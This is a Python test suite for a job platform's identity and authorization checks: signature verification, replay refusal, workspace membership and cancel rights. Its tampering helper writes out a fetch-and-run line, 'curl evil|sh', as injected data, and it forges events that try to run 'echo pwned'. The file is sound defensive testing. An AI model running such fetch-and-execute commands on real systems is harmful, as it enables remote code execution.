"""Identity and service-side authorization on a real nats-server with the real services in-process, each on its
own connection under its own name: signed requests, the verified submitter on every event, the ce-source
check, retries only for failed attempts, who may cancel, workspace membership and allowed priority classes.

These checks hold without server authentication (this server has none): they are what the services enforce
themselves, beside the subject permissions of an authenticated server.
"""

from __future__ import annotations

import asyncio
import contextlib
import datetime as dt
import re
import time
import uuid
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import msgspec
import pytest

from taugrid import runrecord
from taugrid.access import delegation
from taugrid.bus import Bus, connect, identity, platformstore
from taugrid.bus.envelope import SIGNER_HEADER, Event, headers_for, sign_headers
from taugrid.client import CancelRefused, Client
from taugrid.core.contracts import (
    CancelDecision,
    CancelRequested,
    PolicyApproved,
    RecoveryRetrying,
    Rejected,
    SubmitRequested,
)
from taugrid.core.events import message_id, run_subject
from taugrid.evidence import store
from taugrid.evidence.bundle import bundle_name
from taugrid.evidence.verify import verify_run
from tests.inprocess import RunningServices, private_server, wait_for_events
from tests.owners import acting_as
from tests.platforms import NORMAL, lab_platform, workspace
from tests.stages import start_local_cluster, start_stages

PEOPLE = ("alice", "bob", "carol", "root", "owner")  # owner: the stack's local admin, not in `users`

PLATFORM = lab_platform(  # nkeys and OUTPUTS filled in by the stack fixture
    cohort=True,
    priority_classes=[*NORMAL, {"name": "critical", "value": 1000, "preemptible": False}],
    users=[{"name": "alice", "nkey": "ALICE"}, {"name": "bob", "nkey": "BOB"}, {"name": "carol", "nkey": "CAROL"},
           {"name": "root", "nkey": "ROOT", "role": "platform-admin"}],
    workspaces=[workspace("team-a", output_root="OUTPUTS", members=["alice", "bob"], admins=["carol"],
                          allowed_priority_classes=["normal"]),
                workspace("team-b", output_root="OUTPUTS", members=["bob"])],
)


def tau_yaml(name: str, command: str, extra: str = "") -> str:
    return f"name: {name}\nentrypoint: {command!r}\ncompute: {{gpus: 0}}\n{extra}"


@dataclass
class Stack:
    url: str
    bus: Bus  # an observer (reads only)
    seeds: dict[str, bytes]
    people: dict[str, Client] = field(default_factory=dict)

    async def submit(self, who: str, name: str, command: str, extra: str = "", ws: str = "team-a") -> str:
        return await self.people[who].submit_text(tau_yaml(name, command, extra), workspace=ws,
                                                  name=f"{name}-{uuid.uuid4().hex[:4]}")

    async def events(self, run_id: str) -> list[Event]:
        return [e async for e in self.people["root"].events(run_id=run_id)]

    async def wait_for(self, run_id: str, kinds: set[str], timeout: float = 30.0) -> list[Event]:
        return await wait_for_events(self.people["root"], run_id, kinds, timeout)


@pytest.fixture(scope="module")
async def stack(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Stack]:
    tmp = tmp_path_factory.mktemp("identity")
    async with private_server(tmp) as (url, admin), _running_stack(tmp, url, admin) as st:
        yield st


@contextlib.asynccontextmanager
async def _running_stack(tmp: Path, url: str, admin: Bus) -> AsyncIterator[Stack]:
    seeds = {p: identity.new_user_seed() for p in PEOPLE}
    text = PLATFORM.replace("OUTPUTS", str(tmp / "outputs"))
    for p in PEOPLE:
        text = text.replace(f"nkey: {p.upper()}", f"nkey: {identity.public_key(seeds[p])}")
    await platformstore.put_text(admin, text)
    await platformstore.put_local_user(admin, platformstore.LocalUser("owner", identity.public_key(seeds["owner"])))

    running = RunningServices(url)
    try:
        await start_stages(running, "submitter", "run-record", "policy", "admission-watcher", "recovery", "evidence",
                           "renderer")
        await start_local_cluster(running, tmp)
        st = Stack(url, admin, seeds)
        for p in PEOPLE:
            st.people[p] = await running.client(seeds[p])
        yield st
    finally:
        await running.stop()


async def until_dead_lettered(bus: Bus, reason: str, durables: tuple[str, ...]) -> None:
    """Wait until each durable has refused an event with exactly this reason."""
    deadline = time.monotonic() + 10
    while not all([reason in await dead_letters(bus, d) for d in durables]):
        assert time.monotonic() < deadline, f"{reason!r} not dead-lettered by all of {durables}"
        await asyncio.sleep(0.1)


async def dead_letters(bus: Bus, durable: str) -> list[str]:
    """The refusal reasons the DLQ holds for one durable."""
    out: list[str] = []
    info = await bus.js.stream_info("DLQ")
    for seq in range(info.state.first_seq, info.state.last_seq + 1):
        try:
            msg = await bus.js.get_msg("DLQ", seq)
        except Exception:  # noqa: BLE001 - a gap in the sequence
            continue
        if msg.subject == f"dlq.RUNS.{durable}" and msg.headers:
            out.append(msg.headers.get("x-dlq-error", ""))
    return out


async def test_every_event_of_a_run_names_the_verified_submitter(stack: Stack) -> None:
    run_id = await stack.submit("alice", "hello", "echo hi")
    await stack.wait_for(run_id, {"evidence.sealed"})
    evs = await stack.events(run_id)
    assert [e.type for e in evs][:3] == ["submit.requested", "submit.accepted", "policy.approved"]
    assert evs[0].signer == identity.public_key(stack.seeds["alice"]) and evs[0].user == ""
    assert evs[0].payload(SubmitRequested).user != "alice"  # the client's claim (the OS login) is not used
    assert {(e.type, e.user) for e in evs[1:]} == {(e.type, "alice") for e in evs[1:]}
    assert "exec.succeeded" in [e.type for e in evs]
    record = await stack.people["alice"].status(run_id)
    # a sealed record keeps no signer (issue 27): the bundle's identity has it, verified below
    assert (record.user, record.signer) == (
        "alice", "" if record.evidence_digest else identity.public_key(stack.seeds["alice"]))

    report = await verify_run(stack.bus, run_id)
    assert report.ok, report.problems
    assert (report.user, report.signer) == ("alice", identity.public_key(stack.seeds["alice"]))


async def test_tau_verify_flags_a_tampered_sealed_signature(stack: Stack) -> None:
    run_id = await stack.submit("alice", "sealed", "echo sealed")
    await stack.wait_for(run_id, {"evidence.sealed"})
    _, doc = await store.read_bundle(stack.bus, run_id)  # type: ignore[misc]
    assert doc["identity"]["user"] == "alice" and doc["identity"]["signed"]["id"] == f"{run_id}.1.submit.requested"
    sig = doc["identity"]["signature"]
    forged = sig[:10] + ("A" if sig[10] != "A" else "B") + sig[11:]
    await store.put_object(stack.bus, bundle_name(run_id), msgspec.json.encode(
        {**doc, "identity": {**doc["identity"], "signature": forged}}), workspace="team-a")
    report = await verify_run(stack.bus, run_id)
    assert not report.ok
    assert (f"the sealed submission signature does not verify against the sealed key {report.signer}: signature "
            "does not match the request (tampered, or signed by another key)") in report.problems


async def forge_submission(stack: Stack, *, seed: bytes, tamper: bool, signed_at: str = "") -> str:
    """A submit.requested signed by ``seed``; with ``tamper`` its body is changed after signing; ``signed_at``
    replaces its ``ce-time`` before signing (an old request replayed)."""
    run_id = f"forged-{uuid.uuid4().hex[:6]}"
    subject = run_subject("team-a", run_id, "submit.requested")
    body = msgspec.json.encode(SubmitRequested(submission_id=uuid.uuid4().hex, workspace="team-a",
                                               config_text=tau_yaml("forged", "echo signed")))
    headers = headers_for(event_id=message_id(run_id, 1, "submit.requested"), event_type="submit.requested",
                          source="/svc/client", subject=run_id, workspace="team-a", attempt=1, traceparent="")
    if signed_at:
        headers["ce-time"] = signed_at
    sign_headers(seed, nats_subject=subject, headers=headers, body=body)
    if tamper:
        body = body.replace(b"echo signed", b"curl evil|sh")
    await stack.bus.js.publish(subject, body, headers=headers)
    return run_id


async def test_a_tampered_signature_is_rejected(stack: Stack) -> None:
    run_id = await forge_submission(stack, seed=stack.seeds["alice"], tamper=True)
    evs = await stack.wait_for(run_id, {"submit.rejected"})
    [issue] = next(e for e in evs if e.type == "submit.rejected").payload(Rejected).reasons
    assert (issue.field, issue.message) == (
        "tau-signature",
        "submit.requested refused: signature does not match the request (tampered, or signed by another key)")
    assert "submit.accepted" not in [e.type for e in evs]


def _minutes_ago(minutes: int) -> str:
    return (dt.datetime.now(dt.UTC) - dt.timedelta(minutes=minutes)).isoformat(timespec="milliseconds").replace(
        "+00:00", "Z")


def _stale(event_type: str, signed_at: str) -> re.Pattern[str]:
    """The refusal of a request signed ten minutes before it was stored (the seconds vary by a little)."""
    return re.compile(re.escape(f"{event_type} refused: signed at {signed_at!r}, but stored ") + r"60\d" + re.escape(
        " s apart from that; a signed request must reach the bus within 300 s of signing (a replay of an old "
        "request is never honoured)"))


async def test_a_submission_signed_long_before_it_reached_the_bus_is_refused(stack: Stack) -> None:
    signed_at = _minutes_ago(10)
    run_id = await forge_submission(stack, seed=stack.seeds["alice"], tamper=False, signed_at=signed_at)
    evs = await stack.wait_for(run_id, {"submit.rejected"})
    [issue] = next(e for e in evs if e.type == "submit.rejected").payload(Rejected).reasons
    assert issue.field == "ce-time" and _stale("submit.requested", signed_at).fullmatch(issue.message)
    assert "submit.accepted" not in [e.type for e in evs]


async def test_a_replayed_old_cancel_is_refused_and_the_run_keeps_running(stack: Stack) -> None:
    run_id = await stack.submit("alice", "replayed", "sleep 60")
    await stack.wait_for(run_id, {"exec.running"})
    signed_at, nonce = _minutes_ago(10), uuid.uuid4().hex[:12]
    subject = run_subject("team-a", run_id, "cancel.requested")
    body = msgspec.json.encode(CancelRequested(reason="replayed", requested_by="alice"))
    request_id = message_id(run_id, 1, "cancel.requested", suffix=nonce)
    headers = headers_for(event_id=request_id, event_type="cancel.requested", source="/svc/client", subject=run_id,
                          workspace="team-a", attempt=1, traceparent="")
    headers["ce-time"] = signed_at
    sign_headers(stack.seeds["alice"], nats_subject=subject, headers=headers, body=body)
    await stack.bus.js.publish(subject, body, headers=headers)
    evs = await stack.wait_for(run_id, {"cancel.refused"})
    decision = next(e for e in evs if e.type == "cancel.refused").payload(CancelDecision)
    assert decision.request_id == request_id and decision.field == "ce-time"
    assert _stale("cancel.requested", signed_at).fullmatch(decision.reason)
    assert (await stack.people["alice"].status(run_id)).state == "running"
    await stack.people["alice"].cancel(run_id)
    await stack.wait_for(run_id, {"exec.cancelled"})


async def test_a_signer_who_is_not_a_platform_user_is_rejected(stack: Stack) -> None:
    stranger = identity.new_user_seed()
    run_id = await forge_submission(stack, seed=stranger, tamper=False)
    evs = await stack.wait_for(run_id, {"submit.rejected"})
    [issue] = next(e for e in evs if e.type == "submit.rejected").payload(Rejected).reasons
    assert (issue.field, issue.message) == (
        SIGNER_HEADER,
        f"submit.requested refused: unknown signer {identity.public_key(stranger)}: no user in the platform has "
        "this key")


async def test_a_priority_class_the_workspace_does_not_allow_is_rejected(stack: Stack) -> None:
    run_id = await stack.submit("alice", "vip", "echo vip", "policy: {workload_priority_class: critical}\n")
    evs = await stack.wait_for(run_id, {"policy.rejected", "policy.approved"})
    [issue] = next(e for e in evs if e.type == "policy.rejected").payload(Rejected).reasons
    assert (issue.field, issue.message, issue.fix) == (
        "policy.workload_priority_class", "priority class 'critical' is not allowed in workspace 'team-a'",
        "use one of the workspace's allowed_priority_classes: normal")


async def test_a_submission_outside_the_users_workspaces_is_rejected(stack: Stack) -> None:
    run_id = await stack.submit("alice", "elsewhere", "echo no", ws="team-b")
    evs = await stack.wait_for(run_id, {"policy.rejected", "policy.approved"})
    [issue] = next(e for e in evs if e.type == "policy.rejected").payload(Rejected).reasons
    assert (issue.field, issue.message) == ("policy.workspace", "user 'alice' is not a member of workspace 'team-b'")
    assert all(e.user == "alice" for e in evs[1:])


async def test_a_forged_policy_approved_from_the_wrong_source_is_not_applied(stack: Stack) -> None:
    run_id = f"hijack-{uuid.uuid4().hex[:6]}"
    spec = await _approved_spec(stack)
    evil = msgspec.structs.replace(spec, run_id=run_id, command=["sh", "-c", "echo pwned"],
                                   priority_class="critical", preemptible=False)
    bob = stack.people["bob"].bus  # a person's connection, claiming nothing: ce-source /svc/client
    await bob.emit(workspace="team-a", run_id=run_id, attempt=1, event_type="policy.approved",
                   payload=PolicyApproved(run=evil))
    reason = (f"refused: ce-source '/svc/client' may not publish run.team-a.{run_id}.policy.approved; "
              "only /svc/policy may")
    await until_dead_lettered(stack.bus, reason, ("renderer", "runstate"))  # the record never sees it either
    await asyncio.sleep(0.5)
    assert [e.type for e in await stack.events(run_id)] == ["policy.approved"]  # nothing acted on it
    assert await runrecord.find(stack.bus, run_id) is None


async def _approved_spec(stack: Stack) -> Any:
    run_id = await stack.submit("alice", "template", "echo t")
    evs = await stack.wait_for(run_id, {"policy.approved"})
    return next(e for e in evs if e.type == "policy.approved").payload(PolicyApproved).run


async def test_a_forged_retry_for_a_running_run_does_not_restart_it(stack: Stack) -> None:
    run_id = await stack.submit("alice", "victim", "sleep 60")
    evs = await stack.wait_for(run_id, {"exec.running"})
    spec = next(e for e in evs if e.type == "policy.approved").payload(PolicyApproved).run
    deadline = time.monotonic() + 10
    while (await stack.people["alice"].status(run_id)).state != "running":  # the projection may trail the event
        assert time.monotonic() < deadline, "the run record never said running"
        await asyncio.sleep(0.05)
    attacker = stack.people["bob"].bus
    with acting_as(attacker, "recovery"):  # claims the right ce-source; the run record says it never failed
        await attacker.emit(workspace="team-a", run_id=run_id, attempt=2, event_type="recovery.retrying",
                            payload=RecoveryRetrying(
                                attempt=2, reason="Error", classification="app_error", delay_s=0,
                                not_before=time.time() - 60,
                                run=msgspec.structs.replace(spec, command=["sh", "-c", "echo pwned"])))
    reason = (f"refused recovery.retrying for attempt 2 of {run_id}: the run record shows attempt 1 did not fail "
              "(state running, attempt 1)")
    await until_dead_lettered(stack.bus, reason, ("renderer",))
    record = await stack.people["alice"].status(run_id)
    assert (record.state, record.attempt) == ("running", 1)
    assert [e.attempt for e in await stack.events(run_id) if e.type == "render.applied"] == [1]
    await stack.people["alice"].cancel(run_id)
    await stack.wait_for(run_id, {"exec.cancelled"})


async def test_bob_cannot_cancel_alices_run_but_her_workspace_admin_can(stack: Stack) -> None:
    run_id = await stack.submit("alice", "long", "sleep 60")
    await stack.wait_for(run_id, {"exec.running"})
    with pytest.raises(CancelRefused) as refused:
        await stack.people["bob"].cancel(run_id)
    assert str(refused.value) == (f"'bob' may not cancel run {run_id} of 'alice': only its submitter, an admin "
                                  "of workspace 'team-a' or a platform admin may")
    assert (refused.value.decision.by, refused.value.decision.field) == ("bob", "user")
    await asyncio.sleep(0.5)
    record = await stack.people["alice"].status(run_id)
    assert (record.state, record.cancel_requested) == ("running", False)

    decision = await stack.people["carol"].cancel(run_id)
    assert decision is not None and decision.by == "carol"
    evs = await stack.wait_for(run_id, {"exec.cancelled"})
    types = [e.type for e in evs]
    assert types.index("cancel.refused") < types.index("cancel.accepted") < types.index("exec.cancelled")
    assert all(e.user == "alice" for e in evs if e.type in ("cancel.refused", "cancel.accepted", "exec.cancelled"))
    assert (await stack.people["alice"].settled(run_id)).state == "cancelled"


async def test_a_cancel_the_portal_signs_for_a_person_has_exactly_that_persons_authority(stack: Stack) -> None:
    """The portal signs with its own key and carries the person's delegation token (access/delegation.py)."""
    run_id = await stack.submit("alice", "delegated", "sleep 60")
    await stack.wait_for(run_id, {"exec.running"})
    portal_seed = identity.new_user_seed()
    portal = Client(await connect(stack.url, name="portal"))
    portal.bus.seed = portal_seed
    me = identity.public_key(portal_seed)
    try:
        bob = delegation.issue(stack.seeds["bob"], delegate=me, ttl_s=600)
        with pytest.raises(CancelRefused) as refused:
            await portal.cancel(run_id, workspace="team-a", delegation=bob)
        assert (refused.value.decision.by, refused.value.decision.field) == ("bob", "user")
        for_another = delegation.issue(stack.seeds["alice"], delegate=identity.public_key(identity.new_user_seed()),
                                       ttl_s=600)
        with pytest.raises(CancelRefused) as refused:
            await portal.cancel(run_id, workspace="team-a", delegation=for_another)
        assert refused.value.decision.field == delegation.HEADER
        assert str(refused.value).startswith(f"cancel.requested refused: {delegation.HEADER} was issued to U")
        expired = delegation.issue(stack.seeds["alice"], delegate=me, ttl_s=60, now=time.time() - 120)
        with pytest.raises(CancelRefused, match=f"{delegation.HEADER} expired"):
            await portal.cancel(run_id, workspace="team-a", delegation=expired)
        assert (await stack.people["alice"].status(run_id)).state == "running"

        alice = delegation.issue(stack.seeds["alice"], delegate=me, ttl_s=600)
        decision = await portal.cancel(run_id, workspace="team-a", delegation=alice)
        assert decision is not None and (decision.by, decision.signer) == (
            "alice", identity.public_key(stack.seeds["alice"]))
        await stack.wait_for(run_id, {"exec.cancelled"})
    finally:
        await portal.close()


async def test_an_unsigned_cancel_is_refused(stack: Stack) -> None:
    run_id = await stack.submit("alice", "unsigned", "sleep 60")
    await stack.wait_for(run_id, {"exec.running"})
    anon = Client(await connect(stack.url, name="client"))  # no seed: nothing is signed
    try:
        with pytest.raises(CancelRefused, match="cancel.requested refused: unsigned request"):
            await anon.cancel(run_id)
    finally:
        await anon.close()
    await stack.people["alice"].cancel(run_id)
    await stack.wait_for(run_id, {"exec.cancelled"})




async def test_the_stacks_local_admin_is_accepted_everywhere_without_being_listed(stack: Stack) -> None:
    run_id = await stack.submit("owner", "mine", "echo mine", ws="team-b")
    evs = await stack.wait_for(run_id, {"policy.approved", "policy.rejected", "submit.rejected"})
    assert [e.type for e in evs][:3] == ["submit.requested", "submit.accepted", "policy.approved"]
    assert all(e.user == "owner" for e in evs[1:])
